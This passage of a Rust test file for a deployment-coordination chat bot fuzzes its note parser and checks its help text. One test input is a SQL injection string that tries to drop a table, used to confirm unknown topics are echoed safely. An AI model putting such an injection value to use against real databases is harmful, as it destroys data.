                .downcast_ref::<String>()
                .cloned()
                .or_else(|| panic.downcast_ref::<&str>().map(|m| m.to_string()))
                .unwrap_or_default();
            panic!("case {i}: parsing {text:?} panicked: {message}");
        }
    }
}

#[test]
fn random_text_after_a_note_is_kept_trimmed() {
    let mut rng = XorShift(0xD1B5_4A32_D192_ED03);
    for _ in 0..2000 {
        let tail = random_text(&mut rng);
        let text = format!("note {tail}");
        let trimmed = tail.trim();
        match parse(&text) {
            Ok(Request::Change(Command::Note { text: got })) => assert_eq!(got, trimmed, "{text:?}"),
            Err(ParseError::Missing { command: "note", .. }) => assert!(trimmed.is_empty(), "{text:?}"),
            other => panic!("{text:?} gave {other:?}"),
        }
    }
}

// ---------------------------------------------------------------------------------------------
// help()
// ---------------------------------------------------------------------------------------------

#[test]
fn help_without_a_topic_mentions_every_command() {
    let all = help(None);
    assert!(all.starts_with("golive coordinates this channel's deployment. Commands:\n"), "{all}");
    for (name, usage) in GRAMMAR {
        assert!(all.contains(&format!("`{usage}`")), "help lacks `{name}`: {all}");
    }
    // One line per command after the heading, and no trailing newline.
    assert_eq!(all.lines().count(), GRAMMAR.len() + 1);
    assert!(!all.ends_with('\n'));
}

#[test]
fn help_on_one_command_gives_its_usage() {
    assert_eq!(
        help(Some("signoff")),
        "`/deploy signoff ROLE [NOTE]`\nSign off the running phase as ROLE (members of ROLE only)."
    );
    assert_eq!(help(Some("SIGNOFF")), help(Some("signoff")));
    assert_eq!(help(Some("SignOff")), help(Some("signoff")));
    for (name, usage) in GRAMMAR {
        let one = help(Some(name));
        assert!(one.starts_with(&format!("`{usage}`\n")), "help {name}: {one}");
        assert_eq!(one.lines().count(), 2, "help {name}: {one}");
    }
    assert!(help(Some("traffic")).contains("(e.g. 50, 70, 85, 100)"));
}

#[test]
fn help_on_an_unknown_topic_says_so_and_gives_the_full_help() {
    let all = help(None);
    for topic in ["nope", "signof", "🚀", "'; DROP TABLE events; --"] {
        let answer = help(Some(topic));
        assert!(answer.starts_with(&format!("`{topic}` is not a golive command")), "{answer}");
        assert!(answer.ends_with(&all), "{topic:?}");
    }
    assert_eq!(help(Some("")), all, "a blank topic is no topic");
}
